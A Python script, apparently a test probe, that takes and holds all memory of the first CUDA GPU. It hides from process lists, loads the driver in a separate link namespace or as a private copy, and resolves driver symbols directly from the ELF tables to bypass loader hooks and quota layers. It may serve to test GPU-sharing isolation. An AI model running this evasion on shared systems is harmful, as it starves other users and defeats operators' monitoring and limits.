"""Takes all memory of the first device that it can get, past whatever was preloaded into it, and holds it.

    thief.py handles [MOST]      handles alone, by a process without a context: in no process list
    thief.py namespace [MOST]    a library in a link namespace of its own (dlmopen)
    thief.py copy [MOST]         a private copy of the library's file

Functions are read from the library's own tables, so that no loader is asked. Prints lines of JSON: `listed` once there
is a context, `taken` in the end.
"""

import ctypes
import json
import mmap
import os
import shutil
import struct
import sys
import tempfile
import time

MIB = 1 << 20
NAME = b"libcuda.so.1"
RTLD_NOW, LM_ID_NEWLM, RTLD_DI_LINKMAP = 2, -1, 2


class Properties(ctypes.Structure):
    """CUmemAllocationProp: pinned memory of the first device"""

    _fields_ = [("kind", ctypes.c_int), ("handle_types", ctypes.c_int), ("location_kind", ctypes.c_int),
                ("location", ctypes.c_int), ("win32", ctypes.c_void_p), ("flags", ctypes.c_ubyte * 8)]


class LinkMap(ctypes.Structure):
    """The beginning of struct link_map"""

    _fields_ = [("base", ctypes.c_size_t), ("name", ctypes.c_char_p)]


def loader():
    library = ctypes.CDLL(None)
    for name in ("dlopen", "dlmopen"):
        getattr(library, name).restype = ctypes.c_void_p
    library.dlerror.restype = ctypes.c_char_p
    return library


def place(library, handle):
    """Where a library lies in memory, and its file."""
    found = ctypes.POINTER(LinkMap)()
    if library.dlinfo(ctypes.c_void_p(handle), RTLD_DI_LINKMAP, ctypes.byref(found)) != 0:
        raise SystemExit(library.dlerror().decode())
    return found.contents.base, found.contents.name.decode()


def symbols(path):
    """Names and values of what a library defines, from its file."""
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as data:
        table, size, count = struct.unpack_from("<Q", data, 40)[0], *struct.unpack_from("<HH", data, 58)
        sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * size) for i in range(count)]
        dynamic = next(section for section in sections if section[1] == 11)  # SHT_DYNSYM
        texts = sections[dynamic[6]][4]
        found = {}
        for at in range(dynamic[4], dynamic[4] + dynamic[5], 24):
            name, _, _, section, value, _ = struct.unpack_from("<IBBHQQ", data, at)
            if section and value:
                end = data.find(b"\0", texts + name)
                found[bytes(data[texts + name:end])] = value
        return found


class Driver:
    """The driver's functions, by nobody's leave."""

    def __init__(self, how):
        library = loader()
        if how == "copy":
            handle = library.dlopen(NAME, RTLD_NOW)
            path = place(library, handle)[1]
            library.dlclose(ctypes.c_void_p(handle))
            private = os.path.join(tempfile.mkdtemp(), "libprivate.so")
            shutil.copy(path, private)
            handle = library.dlopen(private.encode(), RTLD_NOW)
        elif how == "handles":
            handle = library.dlopen(NAME, RTLD_NOW)
        else:
            handle = library.dlmopen(ctypes.c_long(LM_ID_NEWLM), NAME, RTLD_NOW)
        if not handle:
            raise SystemExit(library.dlerror().decode())
        self.base, path = place(library, handle)
        self.symbols = symbols(path)
        self.call("cuInit", 0)

    def code(self, name, *arguments):
        function = ctypes.CFUNCTYPE(ctypes.c_int)(self.base + self.symbols[name.encode()])
        return function(*arguments)

    def call(self, name, *arguments):
        code = self.code(name, *arguments)
        if code != 0:
            raise SystemExit(f"{name}: CUDA error {code}")

    def allocate(self, size):
        return self.code("cuMemAlloc_v2", ctypes.byref(ctypes.c_ulonglong()), ctypes.c_size_t(size))

    def create(self, size):
        properties = Properties(kind=1, location_kind=1, location=0)
        return self.code("cuMemCreate", ctypes.byref(ctypes.c_ulonglong()), ctypes.c_size_t(size),
                         ctypes.byref(properties), ctypes.c_ulonglong(0))


def say(**what):
    print(json.dumps({"at": time.monotonic(), **what}), flush=True)


def main():
    how, most = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1 << 60
    driver = Driver(how)
    if how == "handles":
        take = driver.create
    else:
        context = ctypes.c_void_p()
        driver.call("cuDevicePrimaryCtxRetain", ctypes.byref(context), 0)
        driver.call("cuCtxSetCurrent", context)
        say(listed=True)
        # Whoever looks has the time to see what a context alone is.
        time.sleep(1)
        take = driver.allocate
    begun, taken = time.monotonic(), 0
    for piece in (256 * MIB, 32 * MIB, 2 * MIB):
        while taken + piece <= most and take(piece) == 0:
            taken += piece
    say(taken=taken, begun=begun)
    while True:
        time.sleep(60)


if __name__ == "__main__":
    main()
